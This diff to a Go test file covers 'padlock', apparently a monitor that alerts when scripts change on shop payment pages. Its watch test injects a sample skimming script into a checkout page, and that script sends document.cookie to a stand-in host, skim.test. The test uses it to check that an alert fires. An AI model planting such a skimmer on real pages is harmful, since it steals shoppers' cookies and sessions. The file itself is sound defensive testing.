@@ -4,15 +4,20 @@ import (
 	"bytes"
 	"context"
 	"encoding/json"
+	"encoding/pem"
 	"io"
 	"net/http"
 	"net/http/httptest"
+	"os"
 	"path/filepath"
 	"slices"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
 	"time"
+
+	"github.com/urfave/cli/v2"
 
 	"github.com/padlock-scan/padlock/alert"
 	"github.com/padlock-scan/padlock/history"
@@ -286,4 +291,206 @@ func TestWatchLoopAlertsOnChangesAndDegradedRuns(t *testing.T) {
 	if testing.Verbose() {
 		t.Log(stderr.String())
 	}
+}
+
+// pagesSite serves pages from a map that a test changes between runs, over TLS, with the
+// certificate in a PEM file for --ca-file.
+type pagesSite struct {
+	mu    sync.Mutex
+	pages map[string]string
+}
+
+func (p *pagesSite) set(path, body string) {
+	p.mu.Lock()
+	p.pages[path] = body
+	p.mu.Unlock()
+}
+
+func (p *pagesSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	p.mu.Lock()
+	body, ok := p.pages[r.URL.Path]
+	p.mu.Unlock()
+	if !ok {
+		http.NotFound(w, r)
+		return
+	}
+	if strings.HasSuffix(r.URL.Path, ".js") {
+		w.Header().Set("Content-Type", "text/javascript")
+	} else {
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		w.Header().Set("Content-Security-Policy", "script-src 'self'")
+	}
+	io.WriteString(w, body)
+}
+
+// padlock watch --once from the command line, twice, then history, history scripts and evidence
+// on its store.
+func TestWatchOnceHistoryAndEvidenceCommands(t *testing.T) {
+	t.Parallel()
+	ps := &pagesSite{pages: map[string]string{
+		"/":         `<!doctype html><title>Shop</title><a href="/checkout">Pay</a>`,
+		"/app.js":   `console.log(1)`,
+		"/checkout": `<!doctype html><title>Pay</title><script src="/app.js"></script><form><input autocomplete="cc-number"></form>`,
+	}}
+	srv := httptest.NewTLSServer(ps)
+	srv.Config.ErrorLog = testnet.QuietLog()
+	defer srv.Close()
+	caFile := filepath.Join(t.TempDir(), "ca.pem")
+	writePEM(t, caFile, srv)
+	dir := t.TempDir()
+	db := filepath.Join(dir, "h.db")
+	ctx := context.Background()
+	watch := func() (int, string) {
+		code, _, stderr := runCLI(t, ctx, "watch", "--once", "--store", db, "--ca-file", caFile, "--check-resources", "scripts", srv.URL+"/")
+		return code, stderr
+	}
+	if code, stderr := watch(); code != 0 || !strings.Contains(stderr, "the first good run, now the baseline (1 payment pages)") {
+		t.Fatalf("first run: exit %d\n%s", code, stderr)
+	}
+	ps.set("/checkout", `<!doctype html><title>Pay</title><script src="/app.js"></script><script>new Image().src='https://skim.test/?'+document.cookie</script><form><input autocomplete="cc-number"></form>`)
+	code, stderr := watch()
+	if code != 1 {
+		t.Fatalf("a changed payment page: exit %d, want 1\n%s", code, stderr)
+	}
+	sitetest.Contains(t, "stderr", stderr, "padlock: alert: padlock watch "+srv.URL+"/: run 2 found", "script-added inline sha256:")
+
+	code, stdout, stderr := runCLI(t, ctx, "history", "--store", db)
+	if code != 0 {
+		t.Fatalf("history: exit %d\n%s", code, stderr)
+	}
+	sitetest.Contains(t, "history", stdout, "RUN  STARTED", "ok ", "changed ")
+	code, stdout, stderr = runCLI(t, ctx, "history", "scripts", "--store", db, "--page", srv.URL+"/checkout")
+	if code != 0 {
+		t.Fatalf("history scripts: exit %d\n%s", code, stderr)
+	}
+	sitetest.Contains(t, "history scripts", stdout, "payment page "+srv.URL+"/checkout", srv.URL+"/app.js", "(1)", "(2)", "inline sha256:")
+	if code, _, stderr := runCLI(t, ctx, "history", "scripts", "--store", db, "--page", srv.URL+"/nope"); code != 2 || !strings.Contains(stderr, "payment pages in the store: "+srv.URL+"/checkout") {
+		t.Errorf("history scripts of an unknown page: exit %d %s", code, stderr)
+	}
+
+	inv := filepath.Join(dir, "inventory.yml")
+	os.WriteFile(inv, []byte("scripts:\n  - url: "+srv.URL+"/app.js\n    justification: the shop's own code <b>\n    owner: web team\n    approved: 2026-11-02\n"), 0o600)
+	out := filepath.Join(dir, "evidence")
+	code, _, stderr = runCLI(t, ctx, "evidence", "--store", db, "--since", "2020-01-01", "-o", out, "--inventory", inv)
+	if code != 0 {
+		t.Fatalf("evidence: exit %d\n%s", code, stderr)
+	}
+	var ev struct {
+		Runs []struct {
+			Outcome string `json:"outcome"`
+		} `json:"runs"`
+		Alerts    []json.RawMessage `json:"alerts"`
+		Inventory struct {
+			Entries []map[string]any `json:"entries"`
+		} `json:"inventory"`
+	}
+	data, err := os.ReadFile(filepath.Join(out, "evidence.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := json.Unmarshal(data, &ev); err != nil {
+		t.Fatal(err)
+	}
+	if len(ev.Runs) != 2 || ev.Runs[1].Outcome != "changed" || len(ev.Alerts) != 1 || len(ev.Inventory.Entries) != 1 {
+		t.Errorf("evidence.json: %s", data)
+	}
+	page, err := os.ReadFile(filepath.Join(out, "evidence.html"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	sitetest.Contains(t, "evidence.html", string(page), "the shop&#39;s own code &lt;b&gt;", "web team", "2026-11-02", `class="run" data-outcome="changed"`)
+	// a period after every run has none
+	code, _, _ = runCLI(t, ctx, "evidence", "--store", db, "--since", "2999-01-01", "-o", filepath.Join(dir, "later"))
+	if code != 0 {
+		t.Errorf("evidence of an empty period: exit %d", code)
+	}
+}
+
+func writePEM(t *testing.T, path string, srv *httptest.Server) {
+	t.Helper()
+	if err := os.WriteFile(path, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw}), 0o600); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestWatchUsageErrors(t *testing.T) {
+	t.Parallel()
+	db := filepath.Join(t.TempDir(), "h.db")
+	ctx := context.Background()
+	for _, c := range []struct {
+		args []string
+		want string
+	}{
+		{[]string{"watch", "--store", db, "https://127.0.0.1/"}, "watch needs one of --every DURATION, --cron SCHEDULE or --once"},
+		{[]string{"watch", "--once", "--every", "1h", "--store", db, "https://127.0.0.1/"}, "watch needs one of"},
+		{[]string{"watch", "--cron", "0 3 * *", "--store", db, "https://127.0.0.1/"}, "--cron \"0 3 * *\": want a cron schedule of 5 fields"},
+		{[]string{"watch", "--once", "--alert-webhook", "http://hooks.example/x", "--store", db, "https://127.0.0.1/"}, "use https (http only to a loopback host)"},
+		{[]string{"watch", "--once", "--alert-secret", "x", "--store", db, "https://127.0.0.1/"}, "give --alert-webhook too"},
+		{[]string{"watch", "--once", "--check-resources", "none", "--store", db, "https://127.0.0.1/"}, "watch compares the bytes of scripts"},
+		{[]string{"watch", "--once", "--store", db}, "watch needs at least one start URL (padlock watch https://shop.example/)"},
+		{[]string{"history", "--store", db + ".none"}, "no history store at"},
+		{[]string{"evidence", "--store", db, "--since", "last week"}, "--since \"last week\": want a date such as 2026-01-01"},
+	} {
+		code, _, stderr := runCLI(t, ctx, c.args...)
+		if code != 2 || !strings.Contains(stderr, c.want) {
+			t.Errorf("%v: exit %d, stderr %q; want 2 and %q", c.args, code, stderr, c.want)
+		}
+	}
+}
+
+// Each setting of watch's own works in padlock.yml as on the command line.
+func TestWatchSettings(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	flags := map[string]bool{}
+	for _, f := range watchFlags() {
+		flags[f.Names()[0]] = true
+	}
+	readme, err := os.ReadFile("../../README.md")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, s := range settingsTable() {
+		if s.command != "watch" {
+			if !flags[s.name] && s.args == "" && !s.fileOnly {
+				t.Errorf("watch lacks the crawl's --%s", s.name)
+			}
+			continue
+		}
+		if !flags[s.name] || s.usage == "" || !strings.Contains(string(readme), "--"+s.name) {
+			t.Errorf("--%s: no flag, no help, or not in the README", s.name)
+		}
+		yml := filepath.Join(dir, s.name+".yml")
+		inFile := s.example
+		if s.kind == kindString {
+			inFile = strconv.Quote(inFile)
+		}
+		os.WriteFile(yml, []byte(s.name+": "+inFile+"\n"), 0o600)
+		fromFile := watchConfigOf(t, "--config", yml, "https://127.0.0.1/")
+		fromFlag := watchConfigOf(t, "--"+s.name+"="+s.example, "https://127.0.0.1/")
+		if fromFile != fromFlag || fromFile == (watchSettings{store: history.DefaultPath}) {
+			t.Errorf("%s: file %+v, flag %+v", s.name, fromFile, fromFlag)
+		}
+	}
+}
+
+// watchConfigOf is watch's own settings after a command line.
+func watchConfigOf(t *testing.T, args ...string) watchSettings {
+	t.Helper()
+	var ws watchSettings
+	app := &cli.App{Writer: io.Discard, ErrWriter: io.Discard, ExitErrHandler: func(*cli.Context, error) {},
+		Commands: []*cli.Command{{Name: "watch", Flags: watchFlags(), Action: func(c *cli.Context) error {
+			cfg, _, err := configure(c)
+			if err != nil {
+				t.Errorf("%v: %v", args, err)
+			}
+			ws = cfg.watch
+			return nil
+		}}}}
+	cliMu.Lock()
+	defer cliMu.Unlock()
+	if err := app.RunContext(context.Background(), append([]string{"padlock", "watch"}, args...)); err != nil {
+		t.Fatalf("%v: %v", args, err)
+	}
+	return ws
 }
